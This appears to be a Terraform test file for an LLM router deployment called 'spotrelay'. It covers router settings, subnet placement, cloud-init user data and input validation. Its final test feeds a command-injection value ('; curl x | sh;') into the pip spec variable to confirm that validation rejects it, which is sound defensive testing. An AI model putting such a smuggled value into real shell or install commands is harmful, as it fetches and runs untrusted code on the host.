# Offline tests of the router's pure logic (no provider, nothing created).

variables {
  name                  = "llm"
  region                = "eu-west-1"
  subnet_count          = 2
  network_interface_ids = ["eni-0aaa", "eni-0bbb"]
  node_token_parameter  = "/spotrelay/llm/node-token"
  settings = {
    allowed_networks = ["10.0.0.0/16"]
  }
}

run "defaults" {
  command = apply

  assert {
    condition     = output.router_settings.server.port == 8080 && output.router_settings.server.workers == 1
    error_message = "One worker process on port 8080 (the registry lives in memory)."
  }

  assert {
    condition     = output.router_settings.auth.node_token_file == "/etc/spotrelay/node-token"
    error_message = "The router reads the node token from the file the bootstrap writes."
  }

  assert {
    condition     = jsonencode(output.router_settings.registry) == jsonencode({ allowed_networks = ["10.0.0.0/16"], ttl_s = 15 })
    error_message = "Registry: node URLs must be inside the VPC, 15 s TTL."
  }

  assert {
    condition     = toset(keys(output.router_settings)) == toset(["server", "auth", "registry", "routing", "retry", "timeouts", "resume"])
    error_message = "router.yaml uses RouterConfig's sections only."
  }

  assert {
    condition     = jsonencode(yamldecode(output.router_yaml)) == jsonencode(output.router_settings)
    error_message = "router.yaml is the YAML form of router_settings."
  }

  assert {
    condition     = [for s in output.slots : s.subnet_index] == [0, 1]
    error_message = "Two routers land in two subnets."
  }

  assert {
    condition     = output.tags["spotrelay:router"] == "llm"
    error_message = "Resources are tagged with the router deployment."
  }
}

run "slots_round_robin" {
  command = apply

  variables {
    router_count          = 3
    network_interface_ids = ["eni-0aaa", "eni-0bbb", "eni-0ccc"]
  }

  assert {
    condition     = [for s in output.slots : s.subnet_index] == [0, 1, 0]
    error_message = "Slots spread round-robin over the subnets."
  }

  assert {
    condition     = length(output.user_data) == 3 && strcontains(output.user_data[2], "eni-0ccc")
    error_message = "Each slot's user data attaches its own interface."
  }
}

run "user_data" {
  command = apply

  assert {
    condition     = startswith(output.user_data[0], "#cloud-config\n")
    error_message = "User data is a cloud-config."
  }

  assert {
    condition     = yamldecode(output.user_data[0]).write_files[0].content == output.router_yaml
    error_message = "cloud-init writes router.yaml verbatim."
  }

  assert {
    condition     = strcontains(yamldecode(output.user_data[0]).write_files[3].content, "systemctl enable --now spotrelay-router.service")
    error_message = "The bootstrap enables the router unit from the package."
  }

  assert {
    condition     = strcontains(output.user_data[1], "eni-0bbb") && !strcontains(output.user_data[1], "eni-0aaa")
    error_message = "Slot 1 attaches only its own interface."
  }
}

run "rejects_single_subnet" {
  command = plan
  variables {
    subnet_count = 1
  }
  expect_failures = [var.subnet_count]
}

run "rejects_bad_cidr" {
  command = plan
  variables {
    settings = {
      allowed_networks = ["10.0.0.0/33"]
    }
  }
  expect_failures = [var.settings]
}

run "rejects_idle_timeout_below_first_byte" {
  command = plan
  variables {
    load_balancer_idle_timeout = 300
  }
  expect_failures = [output.load_balancer_idle_timeout]
}

run "rejects_mismatched_interfaces" {
  command = plan
  variables {
    router_count = 3
  }
  expect_failures = [output.slots]
}

run "rejects_zero_routers" {
  command = plan
  variables {
    router_count = 0
  }
  expect_failures = [var.router_count]
}

run "rejects_quote_in_pip_spec" {
  command = plan
  variables {
    spotrelay_pip_spec = "spotrelay'; curl x | sh; '"
  }
  expect_failures = [var.spotrelay_pip_spec]
}
